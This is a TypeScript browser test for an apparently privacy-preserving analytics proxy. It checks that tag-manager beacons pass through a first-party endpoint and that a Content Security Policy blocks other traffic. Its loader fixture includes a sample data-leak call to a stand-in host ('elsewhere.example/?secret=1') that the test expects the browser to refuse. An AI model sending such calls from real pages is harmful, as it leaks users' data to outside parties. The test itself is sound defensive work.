import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { createServer, request as ask } from "node:http";
import type { AddressInfo } from "node:net";
import { type TestContext, test } from "node:test";
import { chromium, type Page } from "playwright-core";
import { runCli } from "../support/proxy-process.js";
import { eventually, type Stage, stageFor } from "../support/running-proxy.js";

/* A browser that no PAC file reaches: Diffgram's ingress sends the loader and beacons on, and the generated policy closes every other way. */

const CHROMIUM = "/usr/bin/chromium";
const TAGS = "www.googletagmanager.com";
const BEACONS = "www.google-analytics.com";
const SITE = "diffgram.example.org";
const SKIP = existsSync(CHROMIUM) ? false : "Debian's chromium is not installed.";

/** A container that knows only its vendor's addresses, and one way that nobody would lead to the site's own domain. */
const LOADER = `
const visit = "https://${BEACONS}/g/collect?" + new URLSearchParams({
  v: "2", tid: "G-ABCDEF1234", cid: "123456789.1763900000", en: "page_view", dl: location.origin + location.pathname, dt: document.title,
}).toString().replaceAll("+", "%20");
navigator.sendBeacon(visit);
fetch(visit, { method: "POST", mode: "no-cors", keepalive: true }).catch(() => {});
const old = new XMLHttpRequest(); old.open("POST", visit); old.send();
new Image().src = visit;
const around = document.createElement("link");
around.rel = "stylesheet"; around.href = "https://${BEACONS}/around.css"; document.head.append(around);
fetch("https://elsewhere.example/?secret=1").then(() => { window.leaked = true; }, () => { window.refused = true; });
`;

async function ingress(context: TestContext, stage: Stage, policy: string): Promise<number> {
  const site = createServer((request, response) => {
    if (request.url?.startsWith("/_egress/") === true) {
      const headers = { ...request.headers, "x-forwarded-for": "81.2.69.160" };
      const port = stage.proxy.addresses.firstParty?.port ?? 0;
      const upstream = ask({ host: "127.0.0.1", port, method: request.method, path: request.url, headers, agent: false }, (answer) => {
        response.writeHead(answer.statusCode ?? 502, answer.headers);
        answer.pipe(response);
      });
      upstream.on("error", () => response.destroy());
      request.pipe(upstream);
      return;
    }
    const title = request.url === "/account" ? "Account of ines.moreau@harbour-clinic.example" : "Projects";
    response.writeHead(200, {
      "content-type": "text/html; charset=utf-8",
      "content-security-policy": policy,
      "set-cookie": "session=eyJhbGciOiJIUzI1NiJ9.eyJpZCI6MTR9.2fJ8c9ZlQ0m1aR7vXo5uTq; HttpOnly",
    });
    response.end(`<!doctype html><title>${title}</title><h1>Here</h1><script src="/_egress/tag-manager/gtm.js?id=GTM-ABC1234"></script>`);
  });
  await new Promise<void>((resolve) => site.listen({ host: "127.0.0.1", port: 0 }, resolve));
  context.after(() => {
    site.closeAllConnections();
    site.close();
  });
  const bound: AddressInfo | string | null = site.address();
  return typeof bound === "object" && bound !== null ? bound.port : 0;
}

interface Visit {
  readonly stage: Stage;
  readonly page: Page;
  readonly open: (path: string) => Promise<void>;
}

async function visit(context: TestContext): Promise<Visit> {
  const stage = await stageFor(context, {
    hosts: [TAGS, BEACONS],
    settings: { inspection_threads: 0, listen: { "first-party": "127.0.0.1:0" }, first_party: { hosts: [SITE] } },
    answer(request, response) {
      response.setHeader("Content-Type", request.host === TAGS ? "application/javascript" : "text/plain");
      response.end(request.host === TAGS ? LOADER : "");
    },
  });
  const csp = await runCli("first-party", "csp", "--config", stage.installation.settingsFile);
  assert.equal(csp.code, 0, csp.stderr);
  const port = await ingress(context, stage, csp.stdout.trim());
  const browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: [
      "--no-sandbox",
      "--disable-gpu",
      "--disable-background-networking",
      `--host-resolver-rules=MAP ${SITE} 127.0.0.1, MAP * ~NOTFOUND`,
    ],
  });
  context.after(() => browser.close());
  const page = await (await browser.newContext()).newPage();
  return {
    stage,
    page,
    async open(path) {
      await page.goto(`http://${SITE}:${port}${path}`, { waitUntil: "load" });
    },
  };
}

test("a browser without PAC file or CA loads the tag manager from Diffgram's domain, and all its beacons come by it", {
  skip: SKIP,
}, async (context) => {
  const { stage, page, open } = await visit(context);
  const refused: string[] = [];
  page.on("console", (message) => {
    if (/Content Security Policy/.test(message.text())) refused.push(message.text());
  });
  await open("/projects");
  const beacons = () => stage.installation.vendor.received.filter(({ host }) => host === BEACONS);
  await eventually("sendBeacon, fetch, XMLHttpRequest and a picture arrive", () => beacons().length === 4);
  assert.ok(beacons().every(({ path }) => path.includes("dt=Projects")));
  assert.doesNotMatch(JSON.stringify(stage.installation.vendor.received), /session=|81\.2\.69\.160/);
  await eventually("the ways around are refused by the browser", async () => (await page.evaluate("window.refused")) === true);
  assert.equal(await page.evaluate("window.leaked === undefined"), true);
  await eventually("the style sheet too", () => refused.some((text) => text.includes("around.css")));
});

test("a person's address in a page's title is refused on this way too", { skip: SKIP }, async (context) => {
  const { stage, open } = await visit(context);
  await open("/account");
  const refused = async () => (await stage.records()).filter((record) => record.destination === "analytics");
  await eventually("the beacons are refused", async () => (await refused()).reduce((sum, record) => sum + record.occurrences, 0) >= 4);
  assert.ok((await refused()).every((record) => record.rules.includes("pii/email") && record.entry === "first-party"));
  assert.equal(stage.installation.vendor.received.filter(({ host }) => host === BEACONS).length, 0);
});
